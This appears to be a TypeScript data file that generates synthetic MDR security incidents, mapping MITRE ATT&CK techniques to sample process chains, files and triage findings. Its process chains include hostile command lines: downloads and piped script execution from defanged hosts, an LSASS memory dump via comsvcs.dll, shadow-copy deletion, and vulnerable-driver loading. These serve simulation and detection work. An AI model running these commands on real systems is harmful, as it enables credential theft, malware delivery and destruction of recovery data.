/**
 * What an MDR incident is about: a summary, the MITRE ATT&CK tactics and techniques that fit it,
 * the process chain the SOC saw, the file it would copy or quarantine, and where it is seen. An
 * incident draws one scenario for its first host's OS, so its texts, techniques and responses tell
 * one story instead of being drawn apart.
 */

export const MITRE: readonly (readonly [string, readonly string[]])[] = [
  [
    'Initial access',
    [
      'T1566.001: Spearphishing Attachment',
      'T1190: Exploit Public-Facing Application',
      'T1078: Valid Accounts',
      'T1133: External Remote Services',
    ],
  ],
  [
    'Execution',
    [
      'T1059.001: PowerShell',
      'T1059.003: Windows Command Shell',
      'T1059.004: Unix Shell',
      'T1204.002: Malicious File',
      'T1047: Windows Management Instrumentation',
    ],
  ],
  [
    'Persistence',
    [
      'T1053.005: Scheduled Task',
      'T1053.003: Cron',
      'T1505.003: Web Shell',
      'T1547.001: Registry Run Keys / Startup Folder',
    ],
  ],
  ['Privilege escalation', ['T1068: Exploitation for Privilege Escalation', 'T1134: Access Token Manipulation']],
  [
    'Defense evasion',
    [
      'T1027: Obfuscated Files or Information',
      'T1218.011: Rundll32',
      'T1055: Process Injection',
      'T1562.001: Disable or Modify Tools',
      'T1070.004: File Deletion',
    ],
  ],
  ['Credential access', ['T1003.001: LSASS Memory', 'T1110.001: Password Guessing', 'T1110.003: Password Spraying']],
  ['Discovery', ['T1087.002: Domain Account', 'T1018: Remote System Discovery', 'T1082: System Information Discovery']],
  ['Lateral movement', ['T1021.001: Remote Desktop Protocol', 'T1021.004: SSH', 'T1570: Lateral Tool Transfer']],
  ['Collection', ['T1005: Data from Local System', 'T1560.001: Archive via Utility']],
  ['Command and control', ['T1071.001: Web Protocols', 'T1105: Ingress Tool Transfer', 'T1572: Protocol Tunneling']],
  ['Exfiltration', ['T1041: Exfiltration Over C2 Channel', 'T1567.002: Exfiltration to Cloud Storage']],
  ['Impact', ['T1486: Data Encrypted for Impact', 'T1490: Inhibit System Recovery', 'T1496: Resource Hijacking']],
];

const TACTIC_OF = new Map(MITRE.flatMap(([tactic, techniques]) => techniques.map((t) => [t.split(':')[0]!, tactic])));
const TECHNIQUE = new Map(MITRE.flatMap(([, techniques]) => techniques.map((t) => [t.split(':')[0]!, t])));

export type ScenarioOs = 'Windows' | 'Linux' | 'macOS';

/** A file the scenario leaves: `%u` is the host's user. Sizes are a payload's, not a system binary's. */
export interface ScenarioFile {
  path: string;
  sizeKb: readonly [number, number];
}

export interface Scenario {
  summary: string;
  /** In kill-chain order, one entry per technique's tactic (duplicates removed). */
  mitre_tactics: readonly string[];
  mitre_techniques: readonly string[];
  attack_stage: string;
  detection: readonly string[];
  /** The process chain, parent first; `%u` is the host's user. */
  chain: readonly string[];
  file: ScenarioFile;
  /** What the SOC found at triage (one sentence, for the first comment). */
  finding: string;
  /** Why a false positive was one (the closing comment). */
  benign: string;
  os: readonly ScenarioOs[];
  /** Only on servers (public-facing services). */
  servers?: boolean;
}

function scenario(s: Omit<Scenario, 'mitre_tactics' | 'mitre_techniques'> & { techniques: string[] }): Scenario {
  const techniques = s.techniques.map((id) => TECHNIQUE.get(id) ?? unknownTechnique(id));
  const tactics = [...new Set(s.techniques.map((id) => TACTIC_OF.get(id)!))];
  const { techniques: _ids, ...rest } = s;
  return { ...rest, mitre_tactics: tactics, mitre_techniques: techniques };
}

function unknownTechnique(id: string): never {
  throw new Error(`scenario technique ${id} is not in MITRE`);
}

export const SCENARIOS: readonly Scenario[] = [
  scenario({
    summary: 'Suspicious PowerShell execution with encoded command',
    techniques: ['T1059.001', 'T1027'],
    attack_stage: 'Exploitation',
    detection: ['EDR', 'EPP', 'Threat hunting'],
    chain: [
      'explorer.exe',
      'cmd.exe /c start /min powershell',
      'powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0A…',
    ],
    file: { path: 'C:\\Users\\%u\\AppData\\Local\\Temp\\tmp4F2A.ps1', sizeKb: [2, 40] },
    finding: 'the encoded command downloads and runs a second stage in memory',
    benign: 'the encoded command is the customer’s software inventory script',
    os: ['Windows'],
  }),
  scenario({
    summary: 'Credential dumping attempt from LSASS memory',
    techniques: ['T1003.001', 'T1218.011'],
    attack_stage: 'Actions on objectives',
    detection: ['EDR', 'EPP'],
    chain: [
      'cmd.exe',
      'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\lsass.dmp full',
    ],
    file: { path: 'C:\\Windows\\Temp\\lsass.dmp', sizeKb: [38_000, 96_000] },
    finding: 'a full memory dump of lsass.exe was written to C:\\Windows\\Temp',
    benign: 'the dump was taken by the customer’s support team while troubleshooting a crash',
    os: ['Windows'],
  }),
  scenario({
    summary: 'Phishing attachment launched a macro downloader',
    techniques: ['T1566.001', 'T1204.002', 'T1105'],
    attack_stage: 'Delivery',
    detection: ['EDR', 'Sandbox', 'KATA'],
    chain: [
      'OUTLOOK.EXE',
      'WINWORD.EXE /n "C:\\Users\\%u\\Downloads\\Invoice_0871.docm"',
      'powershell.exe -c iwr hxxp://cdn-upd[.]info/a.bin -OutFile $env:TEMP\\a.exe',
    ],
    file: { path: 'C:\\Users\\%u\\Downloads\\Invoice_0871.docm', sizeKb: [60, 400] },
    finding: 'the document’s macro fetched an executable from a newly registered domain',
    benign: 'the macro belongs to the finance team’s approved invoicing template',
    os: ['Windows'],
  }),
  scenario({
    summary: 'Cobalt Strike beacon communication detected',
    techniques: ['T1071.001', 'T1055'],
    attack_stage: 'Command and control',
    detection: ['KATA', 'IDS', 'EDR'],
    chain: ['services.exe', 'svchost.exe -k netsvcs', 'rundll32.exe C:\\ProgramData\\Intel\\igfx.dll,StartW'],
    file: { path: 'C:\\ProgramData\\Intel\\igfx.dll', sizeKb: [250, 420] },
    finding: 'rundll32.exe beacons every 60 seconds to a host with a Cobalt Strike certificate',
    benign: 'the traffic is the customer’s authorised red-team exercise',
    os: ['Windows'],
  }),
  scenario({
    summary: 'Ransomware precursor: shadow copies deleted',
    techniques: ['T1490', 'T1047'],
    attack_stage: 'Actions on objectives',
    detection: ['EDR', 'EPP'],
    chain: ['cmd.exe', 'wmic.exe shadowcopy delete /nointeractive', 'vssadmin.exe delete shadows /all /quiet'],
    file: { path: 'C:\\Users\\%u\\AppData\\Roaming\\svc_upd.exe', sizeKb: [180, 900] },
    finding: 'volume shadow copies were deleted minutes after an unsigned binary started',
    benign: 'the shadow copies were removed by the backup software’s retention job',
    os: ['Windows'],
  }),
  scenario({
    summary: 'Brute-force of RDP followed by a successful logon',
    techniques: ['T1110.001', 'T1021.001'],
    attack_stage: 'Exploitation',
    detection: ['EDR', 'IDS', 'Threat hunting'],
    chain: ['svchost.exe -k termsvcs', 'rdpclip.exe', 'explorer.exe'],
    file: { path: 'C:\\Users\\%u\\Desktop\\NLBrute.exe', sizeKb: [700, 2_400] },
    finding: '1,900 failed RDP logons from one external address ended in a successful one',
    benign: 'the failed logons came from a misconfigured monitoring probe',
    os: ['Windows'],
  }),
  scenario({
    summary: 'Brute-force of SSH followed by a successful logon',
    techniques: ['T1110.003', 'T1021.004'],
    attack_stage: 'Exploitation',
    detection: ['EDR', 'IDS'],
    chain: ['sshd', 'sshd: %u [priv]', 'bash'],
    file: { path: '/home/%u/.ssh/authorized_keys', sizeKb: [1, 4] },
    finding: 'thousands of failed SSH logons ended in a session that added an authorized key',
    benign: 'the logons came from the customer’s configuration-management server',
    os: ['Linux'],
  }),
  scenario({
    summary: 'Scheduled task created for persistence',
    techniques: ['T1053.005', 'T1059.003'],
    attack_stage: 'Installation',
    detection: ['EDR', 'Threat hunting'],
    chain: [
      'cmd.exe',
      'schtasks.exe /create /sc onlogon /tn "OneDrive Sync" /tr C:\\Users\\%u\\AppData\\Roaming\\OneDriveSync.exe',
    ],
    file: { path: 'C:\\Users\\%u\\AppData\\Roaming\\OneDriveSync.exe', sizeKb: [150, 1_200] },
    finding: 'a logon task starts an unsigned binary that mimics OneDrive',
    benign: 'the task was created by the customer’s software deployment tool',
    os: ['Windows'],
  }),
  scenario({
    summary: 'Cron job created for persistence',
    techniques: ['T1053.003', 'T1059.004'],
    attack_stage: 'Installation',
    detection: ['EDR', 'Threat hunting'],
    chain: ['bash', 'crontab -', 'sh -c curl -fsSL hxxp://45.9.148[.]21/s.sh | sh'],
    file: { path: '/var/tmp/.s.sh', sizeKb: [1, 12] },
    finding: 'a cron entry fetches and runs a shell script every ten minutes',
    benign: 'the cron entry is the customer’s own health check',
    os: ['Linux'],
  }),
  scenario({
    summary: 'Unusual outbound traffic to a rare domain',
    techniques: ['T1071.001', 'T1041'],
    attack_stage: 'Command and control',
    detection: ['IDS', 'KATA', 'Threat hunting'],
    chain: ['explorer.exe', 'C:\\Users\\%u\\AppData\\Local\\Programs\\helper\\helper.exe'],
    file: { path: 'C:\\Users\\%u\\AppData\\Local\\Programs\\helper\\helper.exe', sizeKb: [300, 2_000] },
    finding: 'a user-space binary sends regular HTTPS posts to a domain registered last week',
    benign: 'the domain belongs to a new SaaS vendor the customer has onboarded',
    os: ['Windows', 'macOS'],
  }),
  scenario({
    summary: 'Living-off-the-land binary used to download a payload',
    techniques: ['T1105', 'T1059.003'],
    attack_stage: 'Delivery',
    detection: ['EDR', 'EPP'],
    chain: ['cmd.exe', 'certutil.exe -urlcache -split -f hxxp://files-share[.]top/u.exe C:\\Users\\Public\\u.exe'],
    file: { path: 'C:\\Users\\Public\\u.exe', sizeKb: [90, 800] },
    finding: 'certutil.exe downloaded an executable to C:\\Users\\Public',
    benign: 'certutil.exe fetched the customer’s internal root certificate',
    os: ['Windows'],
  }),
  scenario({
    summary: 'Web shell activity on a public-facing server',
    techniques: ['T1190', 'T1505.003', 'T1059.003'],
    attack_stage: 'Installation',
    detection: ['EDR', 'IDS', 'KATA'],
    chain: ['w3wp.exe -ap "DefaultAppPool"', 'cmd.exe /c whoami /all'],
    file: { path: 'C:\\inetpub\\wwwroot\\aspnet_client\\errorEE.aspx', sizeKb: [2, 30] },
    finding: 'the IIS worker process started a shell after a POST to an unknown .aspx page',
    benign: 'the page is a diagnostic page the customer’s developers deployed',
    os: ['Windows'],
    servers: true,
  }),
  scenario({
    summary: 'Web shell activity on a public-facing server',
    techniques: ['T1190', 'T1505.003', 'T1059.004'],
    attack_stage: 'Installation',
    detection: ['EDR', 'IDS', 'KATA'],
    chain: ['nginx: worker process', 'php-fpm: pool www', 'sh -c id;uname -a'],
    file: { path: '/var/www/html/wp-content/uploads/2024/cache.php', sizeKb: [2, 30] },
    finding: 'the PHP pool started a shell after a POST to an uploaded .php file',
    benign: 'the file is a cache script of the customer’s CMS plugin',
    os: ['Linux'],
    servers: true,
  }),
  scenario({
    summary: 'Cryptominer started from a temporary directory',
    techniques: ['T1496', 'T1059.004'],
    attack_stage: 'Actions on objectives',
    detection: ['EDR', 'EPP'],
    chain: ['systemd', 'bash', '/tmp/.X11-unix/kdevtmpfsi'],
    file: { path: '/tmp/.X11-unix/kdevtmpfsi', sizeKb: [2_000, 6_000] },
    finding: 'a hidden binary in /tmp keeps all CPU cores busy and talks to a mining pool',
    benign: 'the load came from the customer’s own benchmark job',
    os: ['Linux'],
  }),
  scenario({
    summary: 'Privilege escalation through a vulnerable signed driver',
    techniques: ['T1068', 'T1134'],
    attack_stage: 'Exploitation',
    detection: ['EDR', 'EPP'],
    chain: [
      'cmd.exe',
      'sc.exe create RTCore64 type= kernel binPath= C:\\Users\\%u\\AppData\\Local\\Temp\\RTCore64.sys',
    ],
    file: { path: 'C:\\Users\\%u\\AppData\\Local\\Temp\\RTCore64.sys', sizeKb: [12, 16] },
    finding: 'a known-vulnerable driver was loaded and a SYSTEM token was duplicated right after',
    benign: 'the driver came with the customer’s hardware monitoring tool',
    os: ['Windows'],
  }),
  scenario({
    summary: 'Kernel exploit used for privilege escalation',
    techniques: ['T1068', 'T1059.004'],
    attack_stage: 'Exploitation',
    detection: ['EDR'],
    chain: ['sshd', 'bash', '/tmp/.cache/pwnkit'],
    file: { path: '/tmp/.cache/pwnkit', sizeKb: [20, 60] },
    finding: 'an unprivileged shell started a root process through pkexec',
    benign: 'the customer’s vulnerability scanner ran its pkexec check',
    os: ['Linux'],
  }),
  scenario({
    summary: 'Unsigned launch agent added for persistence',
    techniques: ['T1547.001', 'T1105'],
    attack_stage: 'Installation',
    detection: ['EDR'],
    chain: ['launchd', 'bash', 'curl -o /Users/%u/Library/LaunchAgents/com.update.agent.plist …'],
    file: { path: '/Users/%u/Library/LaunchAgents/com.update.agent.plist', sizeKb: [1, 4] },
    finding: 'a launch agent starts an unsigned binary at every logon',
    benign: 'the launch agent belongs to the customer’s MDM tooling',
    os: ['macOS'],
  }),
];

/** The scenarios an OS can draw (servers add the public-facing ones). */
export function scenariosFor(os: ScenarioOs, server: boolean): readonly Scenario[] {
  const key = `${os}:${server}`;
  let list = BY_OS.get(key);
  if (!list) BY_OS.set(key, (list = SCENARIOS.filter((s) => s.os.includes(os) && (server || !s.servers))));
  return list;
}
const BY_OS = new Map<string, readonly Scenario[]>();
